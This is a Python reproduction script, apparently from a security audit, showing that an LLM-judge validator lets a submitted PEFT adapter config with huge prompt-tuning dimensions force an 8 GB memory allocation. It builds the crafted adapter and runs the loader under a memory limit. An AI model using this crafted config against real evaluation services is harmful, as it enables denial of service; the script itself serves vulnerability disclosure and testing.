"""F2: llm_judge checks an adapter's `r`, `rank_pattern` and tensors, then lets peft re-read
adapter_config.json in the validator's process with every other field unchecked. peft_type
PROMPT_TUNING with num_virtual_tokens x token_dim makes the parent allocate (and initialise,
touching every page) an embedding of whatever size the 200-byte config names. Here 8 GB is asked
for under a 3 GB RLIMIT_AS in a throwaway process, so the machine is never at risk.

Run: .venv-llm_judge/bin/python attack_repros/r2_llm_judge_peft_type.py
"""

import json
import resource
import sys
import tempfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))


def main() -> None:
    import torch
    from safetensors.torch import save_file

    from devkit.tiny_models import build_model, save_base
    from modules.llm_judge import loading
    from modules.llm_judge.inspection import inspect_adapter
    from modules.llm_judge.submission import Submission

    tmp = Path(tempfile.mkdtemp())
    base_dir = save_base(build_model("qwen2"), tmp / "base")
    adapter = tmp / "submission"
    adapter.mkdir()
    hidden = json.loads((base_dir / "config.json").read_text())["hidden_size"]
    save_file(
        {"prompt_embeddings": torch.zeros(2, hidden)}, str(adapter / "adapter_model.safetensors")
    )
    (adapter / "adapter_config.json").write_text(
        json.dumps(
            {
                "peft_type": "PROMPT_TUNING",
                "task_type": "CAUSAL_LM",
                "base_model_name_or_path": "tiny/base",
                "num_virtual_tokens": 1_000_000,
                "token_dim": 2000,
                "num_transformer_submodules": 1,
            }
        )
    )  # 1e6 x 2000 x 4 bytes = 8 GB
    facts = inspect_adapter(adapter, "adapter_model.safetensors", tmp / "inspect")  # real child
    print("child accepted it: base", facts.base_model, "ranks", facts.ranks())
    loading.fetch_base_model = lambda name: base_dir  # the operator's trusted base, locally
    sub = Submission(
        adapter, "0" * 40, "tiny/base", None, facts.ranks(), tuple(facts.weights.listing)
    )
    limit = 3 * 1024**3 + resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))  # keep the machine safe
    try:
        loading.load(sub)
        print("loaded?!")
    except Exception as exc:  # noqa: BLE001
        text = str(exc)
        print(type(exc).__name__, text[:300])
        if "8000000000" in text or "can't allocate" in text or "MemoryError" in text:
            print("VULNERABLE: the parent tried to allocate the 8 GB the config named")


if __name__ == "__main__":
    main()
